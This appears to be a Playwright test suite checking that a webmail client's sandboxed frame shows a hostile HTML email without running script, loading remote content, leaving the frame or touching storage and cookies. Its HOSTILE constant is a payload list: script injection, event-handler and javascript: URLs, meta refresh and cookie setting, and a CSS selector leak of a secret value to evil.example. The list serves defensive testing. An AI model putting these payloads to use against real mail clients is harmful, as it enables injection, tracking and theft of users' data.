import type { BrowserContext, Page } from "playwright-core";
import { beforeAll, describe, expect, it } from "vitest";
import { chromiumUnavailable } from "./support/browser.ts";
import { openSite } from "./support/pages.ts";
import { perSuite } from "./support/suite.ts";
import { webmailOf } from "./support/webmail.ts";

const EVIL = "https://evil.example";

/** The attacks of a hostile message, by itself and by the clicks of its reader. */
const HOSTILE = `<p id="shown">Hello</p>
<script>parent.postMessage("script", "*"); localStorage.setItem("stolen", "1"); top.location = "${EVIL}/script";</script>
<img src="x:" onerror="parent.postMessage('onerror', '*')"><svg onload="parent.postMessage('svg', '*')"></svg>
<iframe srcdoc="<script>top.postMessage('srcdoc', '*')</script>"></iframe><iframe src="${EVIL}/frame"></iframe>
<iframe src="javascript:parent.postMessage('javascript', '*')"></iframe>
<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><meta http-equiv="set-cookie" content="session=stolen">
<base href="${EVIL}/"><link rel="stylesheet" href="${EVIL}/style"><link rel="prefetch" href="${EVIL}/prefetch">
<style>@import url("${EVIL}/import"); @font-face { font-family: f; src: url("${EVIL}/font"); }
  #secret[value^="s"] { background: url("${EVIL}/css?s"); } p { font-family: f; list-style: url("${EVIL}/list"); }</style>
<input id="secret" value="secret"><img src="${EVIL}/pixel"><video poster="${EVIL}/poster" src="${EVIL}/video"></video>
<object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><p style="background: url('${EVIL}/inline')">Text</p>
<form id="form" action="${EVIL}/form" method="post"><input name="a" value="1"><button id="submit">Send</button></form>
<p><a id="top" href="${EVIL}/top" target="_top">top</a> <a id="parent" href="${EVIL}/parent" target="_parent">parent</a>
<a id="self" href="${EVIL}/self" target="_self">self</a> <a id="run" href="javascript:parent.postMessage('link', '*')">run</a></p>`;

const site = perSuite(() => openSite("hostile.test"));
const mail = perSuite(() => webmailOf(site));
let uid: number;

describe.skipIf(chromiumUnavailable() !== null)("a hostile message in Chromium", () => {
  beforeAll(async () => {
    uid = await mail.receive({ subject: "Hostile", html: `${HOSTILE}<p><a id="out" href="${EVIL}/out">out</a></p>` });
  });

  /** Opens the message, and records requests to other hosts and messages to the page. */
  async function read(body?: string) {
    const { page, context } = await mail.open();
    const requests: string[] = [];
    await context.route(`${EVIL}/**`, async (route) => {
      requests.push(new URL(route.request().url()).pathname);
      await route.fulfill({ contentType: "text/html", body: "<title>evil</title>" });
    });
    await page.addInitScript("window.received = []; addEventListener('message', ({ data }) => received.push(data))");
    // The headers stay those of the service: the frame has to hold without the sanitiser.
    if (body !== undefined)
      await page.route("**/body", async (route) => route.fulfill({ response: await route.fetch(), body }));
    // Chromium may never finish a navigation that it blocks in the frame, and `load` would wait for that.
    await page.goto(mail.path(`/INBOX/${uid}`), { waitUntil: "domcontentloaded" });
    const frame = page.frameLocator("iframe.mail");
    await frame.locator("text=Hello").first().waitFor();
    return { page, context, frame, requests };
  }

  /** Fails when the message has reached the page, its storage, its cookies or its address. */
  async function expectUntouched(page: Page, context: BrowserContext) {
    expect(new URL(page.url()).pathname).toBe(mail.path(`/INBOX/${uid}`));
    expect(await page.evaluate("received")).toEqual([]);
    expect(await page.evaluate("localStorage.getItem('stolen')")).toBeNull();
    expect((await context.cookies()).filter(({ value }) => value === "stolen")).toEqual([]);
    expect(await page.locator("h1").textContent()).toContain("Hostile");
  }

  it("runs nothing and loads nothing, as it is shown", async () => {
    const { page, context, frame, requests } = await read();
    await page.waitForLoadState("networkidle");
    expect(await frame.locator("script, iframe, form, object, embed, base[href], meta, link").count()).toBe(0);
    await expectUntouched(page, context);
    expect(requests).toEqual([]);
  });

  it("runs nothing and loads nothing in the frame even without the sanitiser", async () => {
    const { page, context, frame, requests } = await read(HOSTILE);
    await page.waitForLoadState("networkidle");
    expect(await frame.locator("script").count()).toBe(1);
    await expectUntouched(page, context);
    expect(requests).toEqual([]);
  });

  it.each(["#top", "#parent", "#self", "#run", "#submit"])(
    "does not leave the frame by a click on %s without the sanitiser",
    async (id) => {
      const { page, context, frame, requests } = await read(HOSTILE);
      // Chromium may never finish a navigation that it blocks, and a click would wait for that.
      await frame.locator(id).click({ noWaitAfter: true });
      await page.waitForLoadState("networkidle");
      await expectUntouched(page, context);
      expect(requests).toEqual([]);
    },
  );

  it("opens its links in a new tab that knows neither this page nor its address", async () => {
    const { page, context, frame } = await read();
    const [popup] = await Promise.all([context.waitForEvent("page"), frame.locator("text=out").click()]);
    await popup.waitForLoadState();
    expect(popup.url()).toBe(`${EVIL}/out`);
    expect(await popup.evaluate("[opener, document.referrer]")).toEqual([null, ""]);
    await expectUntouched(page, context);
  });

  it("gets no opener by a link to a named window without the sanitiser", async () => {
    const { page, context, frame } = await read(`<p>Hello</p><a href="${EVIL}/named" target="named">named</a>`);
    const [popup] = await Promise.all([context.waitForEvent("page"), frame.locator("text=named").click()]);
    await popup.waitForLoadState();
    expect(await popup.evaluate("opener")).toBeNull();
    await expectUntouched(page, context);
  });
});
